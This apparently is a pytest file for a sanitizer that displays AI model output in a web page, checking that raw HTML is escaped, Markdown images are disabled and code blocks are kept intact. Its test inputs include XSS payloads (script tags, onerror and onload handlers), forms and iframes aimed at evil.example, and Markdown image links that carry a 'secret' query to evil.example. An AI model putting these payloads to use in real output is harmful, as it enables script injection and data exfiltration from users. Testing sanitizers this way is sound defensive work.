"""Text of a model in the page: its Markdown works, its HTML is text."""

import pytest

from ui.markdown import untrusted


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<form action='https://evil.example'><input name=q></form>",
        "<img src=x onerror=alert(1)>",
        "<div style='position:fixed;inset:0'>",
        "text <b>bold</b>",
        "\\`<form>\\`",
        "`<form>",
        "| a | b |\n|---|---|\n| `x | <form action=evil> | y` |",
        "<div>\n```\n<form>\n```\n</div>",
        "- item\n  <iframe src=//evil>",
        "> <svg onload=alert(1)>",
    ],
)
def test_no_markup_of_the_model_is_left(attack: str) -> None:
    shown = untrusted(attack)
    outside = shown.replace("<code>", "").replace("</code>", "")
    if "```" not in attack:
        assert "<" not in outside
    else:
        assert not outside.startswith("<div>")


@pytest.mark.parametrize(
    "image",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/",
        "[![x](https://evil.example/a.png)](https://evil.example)",
    ],
)
def test_images_are_text(image: str) -> None:
    assert "![" not in untrusted(image)


@pytest.mark.parametrize(
    "code",
    [
        "```html\n<form action=x>\n```",
        "~~~\n<b>\n~~~",
        "1. first\n\n   ```py\n   if a < b: ...\n   ```",
        "    <indented>",
        "```\nstill <open",
    ],
)
def test_code_blocks_are_kept_to_the_letter(code: str) -> None:
    assert untrusted(code) == code


def test_code_spans_show_what_was_written() -> None:
    assert untrusted("use `a<b` now") == "use <code>a&#60;b</code> now"
    assert untrusted("``x`y``") == "<code>x&#96;y</code>"


def test_markdown_is_left_alone() -> None:
    text = "# Title\n\n**bold** *it* [link](https://example.org) \\(x^2\\)\n\n- a\n- b\n\n| h |\n|---|\n| c |"
    assert untrusted(text) == text
